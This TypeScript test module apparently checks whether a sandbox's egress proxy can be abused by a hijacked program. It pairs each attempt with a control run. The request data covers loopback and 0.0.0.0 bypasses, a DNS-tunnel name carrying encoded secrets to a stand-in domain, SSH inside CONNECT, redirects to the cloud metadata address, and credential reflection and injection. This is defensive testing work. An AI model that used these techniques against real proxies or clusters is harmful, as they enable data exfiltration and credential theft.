import { createHash } from "node:crypto";
import { inflateRawSync } from "node:zlib";
import { FORGE_SECRET } from "../../forge/deploy.ts";
import { findCanaries } from "../../canary/search.ts";
import { apply, eventually } from "../../e2e/lab.ts";
import type { Pod } from "../../e2e/lab.ts";
import { list } from "../../e2e/kubectl.ts";
import type { Attack, Outcome } from "../attack.ts";
import { loadProgram, runOrdinary } from "../program.ts";
import { reportOf } from "../stage.ts";
import type { Stage } from "../stage.ts";
import { PROXY_CASES, controlSteps } from "./proxy-cases.ts";
import type { Names, ProxyCase, Step } from "./proxy-cases.ts";

// The egress proxy in the hands of a hijacked program, and the credential that it must never see.

const PROXY = { host: "127.0.0.1", port: 3128 };

interface Case {
  readonly name: string;
  readonly host: string;
  readonly port: number;
  readonly steps: readonly Step[];
}

/** More Services of the forge: `tunnel` is listed, `hidden` is not. */
async function namesOf(stage: Stage): Promise<Names> {
  return stage.once("names of the proxy", async () => {
    const service = (name: string, ports: readonly (readonly [number, number])[]): object =>
      ({ apiVersion: "v1", kind: "Service", metadata: { name }, spec: { selector: { app: "forge" }, ports: ports.map(([port, targetPort]) => ({ name: `p${port}`, port, targetPort })) } });
    await apply(stage.namespace, service("tunnel", [[443, 8443], [80, 8000], [81, 8000]]), service("hidden", [[443, 8443], [80, 8000]]));
    const address = await eventually("the forge's address", async () => (await list<Pod>("pods", stage.namespace, "app=forge"))[0]?.status.podIP);
    return { forge: stage.forge.host, mirror: stage.forge.mirror, tunnel: `tunnel.${stage.namespace}.svc`, hidden: `hidden.${stage.namespace}.svc`, address };
  });
}

const markOf = (name: string, side: "attempt" | "control"): string => `mark-${createHash("sha256").update(`${name} ${side}`).digest("hex").slice(0, 12)}`;

/** What the program made of each case. Pure. */
function answersOf(result: Readonly<Record<string, unknown>>): Readonly<Record<string, Buffer>> {
  const { packed } = result as { packed: string };
  const answers = JSON.parse(inflateRawSync(Buffer.from(packed, "base64")).toString()) as Record<string, string>;
  return Object.fromEntries(Object.entries(answers).map(([name, answer]) => [name, Buffer.from(answer, "latin1")]));
}

const get = (target: string, host: string, more = ""): string => `GET ${target} HTTP/1.1\r\nHost: ${host}\r\n${more}Connection: close\r\n\r\n`;
const connectTo = (authority: string): Step => ({ send: `CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n` });
const inTls = (host: string, text: string): readonly Step[] => [connectTo(`${host}:443`), { tls: host }, { send: text }];

/** What is judged by the answer. */
function answeredCases({ forge, mirror, tunnel }: Names, { sink, namespace }: Stage): Readonly<Record<string, readonly Step[]>> {
  const svc = (name: string): string => `${name}.${namespace}.svc`;
  const plain = (authority: string, path: string): readonly Step[] => [{ send: get(`http://${authority}${path}`, authority) }];
  return {
    "listed": [connectTo(`${tunnel}:443`), { tls: tunnel }, { send: get("/", tunnel) }],
    "loopback 127.0.0.1": [connectTo("127.0.0.1:8080")],
    "loopback localhost": [connectTo("localhost:8080")],
    "loopback ::1": [connectTo("[::1]:8080")],
    "unspecified 0.0.0.0": [connectTo("0.0.0.0:8080")],
    "encoded question": [connectTo("c2VjcmV0LXNlY3JldC1zZWNyZXQ.t.example.com:443")],
    "no protocol": [connectTo(`${tunnel}:443`), { send: "SSH-2.0-OpenSSH_9.2\r\n" }],
    "api alias": plain(`${svc("api-alias")}:443`, "/version"),
    "tenant alias": plain(`${svc("tenant-alias")}:8080`, "/healthz"),
    ...(sink === undefined ? {} : {
      "sink alias": plain(`${svc("sink-alias")}:8443`, "/sink"),
      "metadata": [...plain(mirror, "/redirect?to=http://169.254.169.254/latest"), ...plain(sink.metadata.host, "/latest")],
    }),
    "mirror's credential": inTls(mirror, get("/whoami?of=mirror", mirror)),
    "forge's credential": inTls(forge, get("/whoami?of=forge", forge)),
    "reflected": inTls(forge, get("/reflect", forge)),
    "reflected in gzip": inTls(forge, get("/reflect?encoding=gzip", forge)),
    "own credential": inTls(forge, get("/whoami?of=attempt", forge, "X-A: b\r\nAuthorization: Bearer attacker\r\nauthorization: Bearer attacker\r\n")),
  };
}

async function throughProxy(stage: Stage): Promise<Readonly<Record<string, Buffer>>> {
  return stage.once("through the proxy", async () => {
    const names = await namesOf(stage);
    const seen = PROXY_CASES.map((one): Case => ({ name: one.name, ...PROXY, steps: one.attempt(names, markOf(one.name, "attempt")) }));
    const answered = Object.entries(answeredCases(names, stage)).map(([name, steps]): Case => ({ name, ...PROXY, steps: name === "metadata" ? steps.slice(1) : steps }));
    const first: Case[] = stage.sink === undefined ? [] : [{ name: "redirect", ...PROXY, steps: (answeredCases(names, stage).metadata ?? []).slice(0, 1) }];
    return answersOf(reportOf(await stage.hijack({ name: "proxy", environment: "online", program: loadProgram("proxy.ts", { cases: [...seen, ...answered, ...first] }) })));
  });
}

/** The same from an ordinary pod, with no proxy between. Its credential is a file, as a careless program has it. */
async function direct(stage: Stage): Promise<Readonly<Record<string, Buffer>>> {
  return stage.once("without the proxy", async () => {
    const names = await namesOf(stage);
    const svc = (name: string): string => `${name}.${stage.namespace}.svc.cluster.local`;
    const plain = PROXY_CASES.map((one): Case => ({ name: one.name, host: names.address, port: 8000, steps: controlSteps(markOf(one.name, "control"), names, /^method (\w+)/.exec(one.name)?.[1]) }));
    const to = (name: string, host: string, port: number, text: string): Case => ({ name, host, port, steps: [{ send: text }] });
    const cases = [
      ...plain,
      to("api alias", svc("api-alias"), 443, get("/version", "x")), to("tenant alias", svc("tenant-alias"), 8080, get("/healthz", "x")),
      ...(stage.sink === undefined ? [] : [to("sink alias", svc("sink-alias"), stage.sink.internet.port, "sink-control"), to("metadata", stage.sink.metadata.host, stage.sink.metadata.port, "metadata-control")]),
      to("reflected", names.address, 8000, get("/reflect", "x", "Authorization: Bearer {{token}}\r\n")),
      to("own credential", names.address, 8000, get("/whoami?of=the-control", "x", "Authorization: Bearer attacker\r\n")),
    ];
    const { result } = await runOrdinary(stage, {
      name: "direct", program: loadProgram("proxy.ts", { cases }), mounts: [{ name: "token", mountPath: "/run/token", readOnly: true }], volumes: [{ name: "token", secret: { secretName: FORGE_SECRET.name } }],
    });
    return answersOf(result);
  });
}

const firstLine = (answer: Buffer | undefined): string => (answer?.toString("latin1").split("\r\n")[0] ?? "") || "no answer";

function seenBy(one: ProxyCase): Attack {
  const look = async (stage: Stage, side: "attempt" | "control", answers: Readonly<Record<string, Buffer>>): Promise<Outcome> => {
    const names = await namesOf(stage);
    const mark = markOf(one.name, side);
    const requests = (await stage.forge.seen()).requests.filter(({ path }) => path.includes(mark));
    const wanted = side === "control" ? requests : requests.filter((request) => one.wanted?.(request, names) ?? true);
    return { succeeded: wanted.length > 0, how: wanted.length > 0 ? `the server saw ${wanted[0]?.method ?? ""} ${side === "control" ? "it" : (wanted[0]?.path ?? "")}` : firstLine(answers[one.name]) };
  };
  return { area: "proxy", name: one.name, attempt: async (stage) => look(stage, "attempt", await throughProxy(stage)), control: async (stage) => look(stage, "control", await direct(stage)) };
}

type Judge = (answer: Buffer | undefined, stage: Stage) => Outcome | Promise<Outcome>;

interface Answered {
  readonly key: string;
  readonly name: string;
  readonly attempt: Judge;
  readonly control: Judge;
  /** Key of the control's answer; a control through the proxy has one of its own. */
  readonly controlKey?: string;
  readonly via?: "proxy" | "direct";
  readonly needs?: "the sink";
}

const matches = (pattern: RegExp): Judge => (answer) => ({ succeeded: pattern.test(answer?.toString("latin1") ?? ""), how: firstLine(answer) });
const isSecured: Judge = (answer) => ({ succeeded: answer?.includes("<tls>") ?? false, how: `a listed name: ${firstLine(answer)}` });
const established = matches(/^HTTP\/1\.1 200/);

/** From anybody but a control. */
const sinkSaw = (text: string): Judge => (answer, { sink, controls }) => {
  const arrived = sink?.seen().filter(({ data, from }) => data.includes(text) && !controls.has(from)).length ?? 0;
  return { succeeded: arrived > 0, how: arrived > 0 ? "arrived at the sink" : firstLine(answer) };
};
const sinkSawControl = (text: string): Judge => async (_, { sink }) => {
  const arrived = await eventually("the control's bytes at the sink", async () => Promise.resolve(sink?.seen().some(({ data }) => data.includes(text))), 10).then(() => true, () => false);
  return { succeeded: arrived, how: arrived ? "arrived at the sink" : "nothing arrived" };
};

const digestOf = (text: string): string => createHash("sha256").update(text).digest("hex");
const hasDigest = (path: string, value: (stage: Stage) => string): Judge => async (_, stage) => {
  const digests = (await stage.forge.requests(path)).map(({ authorization }) => authorization?.digest ?? "none");
  return { succeeded: digests.includes(digestOf(value(stage))), how: digests.length === 0 ? "the server saw no request" : digests.every((digest) => digest === "none") ? "no credential arrived" : "a credential arrived" };
};
const credential = ({ canaries }: Stage): string => `Bearer ${canaries[0]?.value ?? ""}`;
const holdsSecret: Judge = (answer, { canaries }) => {
  if (answer === undefined || !answer.includes("HTTP/1.1 ")) throw new Error(`nothing was reflected: ${firstLine(answer)}`);
  const found = findCanaries(answer, canaries);
  return { succeeded: found.length > 0, how: found.length > 0 ? `in the answer as ${found[0]?.encoding ?? ""}` : "masked" };
};

const ANSWERED: readonly Answered[] = [
  ...["loopback 127.0.0.1", "loopback localhost", "loopback ::1", "unspecified 0.0.0.0", "encoded question"].map((key): Answered => (
    { key, name: key === "encoded question" ? "data in a name that is asked for (DNS tunnel)" : `the runner's own ${key.replace("loopback ", "")}`, attempt: established, control: isSecured, controlKey: "listed", via: "proxy" })),
  { key: "no protocol", name: "SSH inside CONNECT", attempt: matches(/HTTP\/1\.1 200[^]*HTTP\/1\.1 [23]|SSH-2/), control: isSecured, controlKey: "listed", via: "proxy" },
  { key: "api alias", name: "a listed name that stands for the API server", attempt: matches(/HTTPS server/), control: matches(/HTTPS server/) },
  { key: "tenant alias", name: "a listed name that stands for another tenant's Service", attempt: established, control: established },
  { key: "sink alias", name: "a listed name that stands for an address of the internet", needs: "the sink", attempt: sinkSaw("/sink"), control: sinkSawControl("sink-control") },
  { key: "metadata", name: "the metadata address, as after a redirect", needs: "the sink", attempt: sinkSaw("/latest"), control: sinkSawControl("metadata-control") },
  { key: "mirror's credential", name: "a credential for another host", attempt: hasDigest("/whoami?of=mirror", credential), control: hasDigest("/whoami?of=forge", credential), controlKey: "forge's credential", via: "proxy" },
  { key: "reflected", name: "a credential that the server sends back", attempt: holdsSecret, control: matches(/<the token>/) },
  { key: "reflected in gzip", name: "a credential that the server sends back compressed", attempt: holdsSecret, control: matches(/<the token>/), controlKey: "reflected" },
  { key: "own credential", name: "a credential of the attacker's instead of the Environment's", attempt: hasDigest("/whoami?of=attempt", () => "Bearer attacker"), control: hasDigest("/whoami?of=the-control", () => "Bearer attacker") },
];

function answeredBy({ key, name, attempt, control, controlKey = key, via = "direct", needs }: Answered): Attack {
  return {
    area: "proxy", name, ...(needs === undefined ? {} : { needs }),
    attempt: async (stage) => attempt((await throughProxy(stage))[key], stage),
    control: async (stage) => control((await (via === "proxy" ? throughProxy : direct)(stage))[controlKey], stage),
  };
}

export const proxyAttacks: readonly Attack[] = [...PROXY_CASES.map(seenBy), ...ANSWERED.map(answeredBy)];
